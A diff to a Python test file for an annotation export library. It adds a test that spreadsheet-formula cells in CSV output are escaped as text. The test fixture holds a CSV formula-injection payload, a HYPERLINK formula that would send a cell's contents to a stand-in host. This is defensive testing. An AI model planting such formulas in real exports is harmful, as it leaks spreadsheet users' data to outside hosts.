@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 
 from library.export.annotation_tables import COLUMNS, annotations_csv, annotations_json
-from tests.library.export.articles import FERRY, WIND
+from tests.library.export.articles import FERRY, WIND, Marked
 
 
 def test_csv_has_one_row_per_annotation() -> None:
@@ -25,6 +26,17 @@ def test_csv_has_one_row_per_annotation() -> None:
 
 def test_csv_without_annotations_is_its_header() -> None:
     assert list(csv.reader(io.StringIO(annotations_csv([WIND])))) == [list(COLUMNS)]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text() -> None:
+    planted = Marked(9, 12, 1, 0, 30, '=HYPERLINK("http://example.invalid/?x="&A1;"Quelle")', note="-5 Grad am Morgen",
+                     tags=("@wichtig",))
+    hostile = dataclasses.replace(FERRY, title="+49 Fähren fallen aus", annotations=(planted,))
+    row = next(csv.DictReader(io.StringIO(annotations_csv([hostile]), newline="")))
+    assert row["quote"] == "'" + planted.quote and row["note"] == "'-5 Grad am Morgen"
+    assert row["title"] == "'+49 Fähren fallen aus" and row["tags"] == "'@wichtig"
+    assert row["paragraph"] == "1" and row["source"] == "Kieler Nachrichten"
+    assert json.loads(annotations_json([hostile]))[0]["quote"] == planted.quote
 
 
 def test_json_has_the_same_columns_with_types() -> None:
